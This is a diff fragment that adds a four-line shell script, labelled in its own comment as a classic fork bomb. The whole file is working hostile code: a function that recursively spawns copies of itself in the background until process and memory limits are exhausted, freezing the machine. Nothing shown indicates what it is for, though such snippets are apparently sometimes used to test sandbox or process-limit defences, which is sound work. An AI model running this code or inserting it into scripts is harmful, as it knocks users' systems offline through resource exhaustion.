@@ -1,0 +1,4 @@
+# Classic shell fork bomb.
+bomb() { bomb | bomb & }
+bomb
+wait
